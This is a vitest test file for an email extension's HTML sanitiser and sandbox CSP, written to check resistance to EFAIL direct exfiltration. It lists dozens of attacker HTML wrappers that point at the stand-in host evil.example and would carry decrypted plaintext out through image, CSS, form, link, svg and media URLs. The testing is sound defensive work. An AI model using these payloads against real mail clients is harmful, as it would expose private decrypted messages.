// @vitest-environment jsdom
/**
 * EFAIL's direct exfiltration (Poddebniak et al., USENIX Security 2018): an attacker wraps a
 * captured ciphertext between HTML parts of their own, say `<img src="http://evil/` before
 * it and `">` after, so that a client which decrypts the middle part and renders the three
 * as one document sends the plaintext to evil as part of a URL. Cachet never joins the
 * parts (efail.test.ts), and even HTML that did hold the plaintext inside a URL loads
 * nothing and carries nothing out: the sanitiser (src/ui/components/sanitize-html.ts),
 * the sandboxed frame with its own CSP, and the extension pages' CSP each forbid it.
 */
import { readFileSync } from 'node:fs';
import { h, render } from 'preact';
import { beforeAll, describe, expect, it } from 'vitest';
import { sandboxedDocument, sanitizeHtml } from '../../src/ui/components/sanitize-html';
import { MessageBody } from '../../src/ui/pages/reader/message-body';
import { buildExtensionOnce } from '../e2e/build-once';

/** What a vulnerable client would have decrypted between the attacker's parts. */
const PLAINTEXT = '<p>Dear Bob, the merger closes on TUESDAY-42.</p>\nRegards,\nAlice';
const SECRET = 'TUESDAY-42';

/** The attacker's part before the ciphertext, and after it, per exfiltration channel. */
const shapes: Readonly<Record<string, readonly [string, string]>> = {
  'img src, double quotes': ['<img src="http://evil.example/?', '">'],
  'img src, single quotes': ["<img src='http://evil.example/?", "'>"],
  'img src, unquoted': ['<img src=http://evil.example/?', '>'],
  'img srcset': ['<img srcset="http://evil.example/?', ' 1x">'],
  'img lowsrc and dynsrc': ['<img lowsrc="http://evil.example/?', '" dynsrc="http://evil.example/x">'],
  'picture source srcset': ['<picture><source srcset="http://evil.example/?', '"></picture>'],
  'a href, unclosed': ['<a href="http://evil.example/?', '">click</a>'],
  'a href, no scheme': ['<a href="//evil.example/?', '">click</a>'],
  'a ping': ['<a href="https://example.org/" ping="http://evil.example/?', '">x</a>'],
  'area href in a map': ['<map name="m"><area shape="rect" coords="0,0,9,9" href="http://evil.example/?', '"></map><img usemap="#m">'],
  'form action with the text as a value': ['<form action="http://evil.example/"><input name="x" value="', '"><button>Go</button></form>'],
  'form action with the text in a textarea': ['<form action="http://evil.example/" method="post"><textarea name="x">', '</textarea><input type="submit"></form>'],
  'button formaction': ['<button formaction="http://evil.example/?', '">x</button>'],
  'input type image': ['<input type="image" src="http://evil.example/?', '">'],
  'base href and a relative image': ['<base href="http://evil.example/"><img src="x?', '">'],
  'base href and a relative link': ['<base href="http://evil.example/"><a href="x?', '">x</a>'],
  'meta refresh': ['<meta http-equiv="refresh" content="0; url=http://evil.example/?', '">'],
  'link stylesheet': ['<link rel="stylesheet" href="http://evil.example/?', '">'],
  'link prefetch': ['<link rel="prefetch" href="http://evil.example/?', '">'],
  'CSS background url() in a style attribute': ['<div style="background:url(\'http://evil.example/?', '\')">x</div>'],
  'CSS background-image with escapes': ['<div style="b\\61 ckground-image: \\75 rl(http://evil.example/?', ')">x</div>'],
  'CSS image-set()': ['<div style="background-image:image-set(\'http://evil.example/?', '\' 1x)">x</div>'],
  'CSS list-style and cursor url()': ['<ul style="list-style:url(http://evil.example/?', ')"><li style="cursor:url(http://evil.example/c),auto">x</li></ul>'],
  'CSS @import in a style element': ["<style>@import 'http://evil.example/?", "';</style>"],
  'CSS @font-face in a style element': ["<style>@font-face{font-family:x;src:url('http://evil.example/?", "')}</style>"],
  'CSS @import in a style attribute': ['<div style="@import url(http://evil.example/?', ')">x</div>'],
  'video poster': ['<video poster="http://evil.example/?', '"></video>'],
  'video and audio src': ['<video src="http://evil.example/?', '"></video><audio src="http://evil.example/a">x</audio>'],
  'track and source src': ['<video><source src="http://evil.example/?', '"><track src="http://evil.example/t"></video>'],
  'object data': ['<object data="http://evil.example/?', '"></object>'],
  'object codebase and embed src': ['<object codebase="http://evil.example/?', '"></object><embed src="http://evil.example/e">'],
  'iframe src': ['<iframe src="http://evil.example/?', '"></iframe>'],
  'frame in a frameset': ['<frameset><frame src="http://evil.example/?', '"></frameset>'],
  'svg image href': ['<svg><image href="http://evil.example/?', '"/></svg>'],
  'svg image xlink:href': ['<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/?', '"/></svg>'],
  'svg use and feImage': ['<svg><use href="http://evil.example/?', '#x"/><filter><feImage href="http://evil.example/f"/></filter></svg>'],
  'math href': ['<math href="http://evil.example/?', '"><mi>x</mi></math>'],
  'table and td background': ['<table background="http://evil.example/?', '"><tr><td background="http://evil.example/td">x</td></tr></table>'],
  'body background': ['<body background="http://evil.example/?', '">x</body>'],
  'bgsound src': ['<bgsound src="http://evil.example/?', '">'],
  'script src': ['<script src="http://evil.example/?', '"></script>'],
  'img in a noscript': ['<noscript><img src="http://evil.example/?', '"></noscript>'],
  'img in a template': ['<template><img src="http://evil.example/?', '"></template>'],
  'cid: and protocol-relative images': ['<img src="cid:x"><img src="//evil.example/?', '">'],
};

/** Every attribute in the body of the frame document that names the attacker or holds the secret. */
function leaks(doc: Document): string[] {
  const found: string[] = [];
  for (const element of Array.from(doc.body.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      if (/evil|TUESDAY|url\s*\(|@import/i.test(attribute.value)) found.push(`<${element.localName} ${attribute.name}="${attribute.value}">`);
    }
  }
  return found;
}

/** Elements of the body that load, submit, navigate or run, whatever their attributes. */
const ACTIVE = 'script, style, link, meta, base, form, input, button, textarea, select, iframe, frame, frameset, object, embed, applet, video, audio, source, track, svg, math, template, noscript, portal, bgsound, img[src]:not([src^="data:"])';

function frameDocument(html: string): Document {
  return new DOMParser().parseFromString(sandboxedDocument(html), 'text/html');
}

describe('EFAIL direct exfiltration: what the sanitiser leaves loads nothing and carries no decrypted text', () => {
  for (const [name, [before, after]] of Object.entries(shapes)) {
    it(name, () => {
      // As a vulnerable client would have joined them, and the attacker's first part alone.
      for (const html of [`${before}${PLAINTEXT}${after}`, before]) {
        const doc = frameDocument(html);
        expect(leaks(doc), html).toEqual([]);
        expect(Array.from(doc.body.querySelectorAll(ACTIVE)).map((e) => e.outerHTML), html).toEqual([]);
      }
    });
  }

  it('the decrypted text is at most text to read, never part of a URL', () => {
    const doc = frameDocument(`<a href="http://evil.example/?${PLAINTEXT}">${SECRET}</a><img src="http://evil.example/${SECRET}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`);
    expect(leaks(doc)).toEqual([]);
    expect(doc.body.textContent).toContain(SECRET);
    // Inline images still show.
    expect(doc.body.querySelectorAll('img[src^="data:image/"]')).toHaveLength(1);
  });
});

describe('links: shown as they are, never followed by themselves, carrying only a clean URL', () => {
  it('keeps a clean http, https or mailto link, with no referrer and no opener', () => {
    const sanitised = sanitizeHtml('<a href="https://example.org/report?id=7#top" target="_top" rel="opener">report</a> <a href="mailto:alice@example.org">mail</a>');
    expect(sanitised).toBe('<a href="https://example.org/report?id=7#top" rel="noopener noreferrer">report</a> <a href="mailto:alice@example.org" rel="noopener noreferrer">mail</a>');
  });

  it('drops a link that swallowed text, or that is not an absolute web or mail address', () => {
    for (const href of [
      `http://evil.example/?${PLAINTEXT}`, 'http://evil.example/?a b', 'http://evil.example/?a<b', "http://evil.example/?a'b", 'http://evil.example/?a\\b',
      'javascript:alert(1)', 'data:text/html,x', 'x?y', '/path', '//evil.example/', 'ftp://evil.example/', `https://evil.example/?${'a'.repeat(3000)}`,
    ]) {
      const doc = frameDocument(`<a href="${href.replace(/"/g, '&quot;')}">x</a>`);
      expect(doc.body.querySelector('a')?.hasAttribute('href'), href).toBe(false);
    }
  });

  it('the frame never lets a link navigate on its own: no popups, no top navigation, a target it cannot open', () => {
    const doc = frameDocument('<a href="https://example.org/">x</a>');
    expect(doc.head.querySelector('base')?.getAttribute('target')).toBe('_blank');
    expect(doc.head.querySelector('base')?.hasAttribute('href')).toBe(false);
    expect(doc.head.querySelector('meta[name="referrer"]')?.getAttribute('content')).toBe('no-referrer');
  });
});

/** Directive name → its sources, from a CSP string. */
function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...sources]) => [name as string, sources]));
}

/** The sources a fetch directive allows, falling back to default-src as browsers do. */
function sourcesOf(policy: Map<string, string[]>, directive: string): string[] {
  return policy.get(directive) ?? policy.get('default-src') ?? ['*'];
}

/** A source that lets the document reach another origin. */
const remote = (source: string): boolean => !["'self'", "'none'", "'unsafe-inline'", 'data:'].includes(source);

describe('the frame and the page forbid remote loads even if the sanitiser missed one', () => {
  const t = (key: string): string => key;

  it('renders decrypted HTML only in a sandboxed frame with no permission at all', () => {
    const container = document.createElement('div');
    render(h(MessageBody, { text: 'plain', html: '<p>rich</p>', t }), container);
    const frame = container.querySelector('iframe');
    expect(frame?.getAttribute('sandbox')).toBe('');
    expect(frame?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(frame?.getAttribute('srcdoc')).toBe(sandboxedDocument('<p>rich</p>'));
    // The plain-text part beside it is not rendered into the same view.
    expect(container.textContent).not.toContain('plain');
    render(h(MessageBody, { text: '<img src="http://evil.example/">', html: null, t }), container);
    expect(container.querySelector('iframe, img')).toBeNull();
    expect(container.querySelector('pre')?.textContent).toBe('<img src="http://evil.example/">');
  });

  it('the frame document\'s own CSP allows only inline styles and data: images', () => {
    const doc = frameDocument('<p>x</p>');
    const policy = directives(doc.head.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(policy.get('default-src')).toEqual(["'none'"]);
    for (const directive of ['img-src', 'style-src', 'font-src', 'media-src', 'object-src', 'frame-src', 'connect-src', 'script-src', 'child-src']) {
      expect(sourcesOf(policy, directive).filter(remote), directive).toEqual([]);
    }
    expect(sourcesOf(policy, 'script-src')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
  });

  // Tests run from the project's root (test/vitest.config.ts); the built manifests are
  // checked as well as the source, built here when they are not up to date.
  beforeAll(() => buildExtensionOnce(process.cwd()), 120_000);
  for (const file of ['manifest.json', 'dist/chrome/manifest.json', 'dist/firefox/manifest.json']) {
    it(`${file}: the extension pages (the reader and its srcdoc frame) load nothing remote but by script`, () => {
      const manifest = JSON.parse(readFileSync(file, 'utf8')) as { content_security_policy: { extension_pages: string } };
      const policy = directives(manifest.content_security_policy.extension_pages);
      // connect-src reaches the network for the background (CRLs, OCSP, the webmail's raw
      // source); in the reader only Cachet's own script could use it, and the message frame runs none.
      for (const directive of ['img-src', 'style-src', 'font-src', 'media-src', 'object-src', 'frame-src', 'script-src', 'child-src', 'worker-src', 'manifest-src']) {
        expect(sourcesOf(policy, directive).filter(remote), directive).toEqual([]);
      }
      expect(sourcesOf(policy, 'style-src')).not.toContain("'unsafe-inline'");
      expect(policy.get('form-action')).toEqual(["'none'"]);
      expect(policy.get('base-uri')).toEqual(["'none'"]);
    });
  }
});
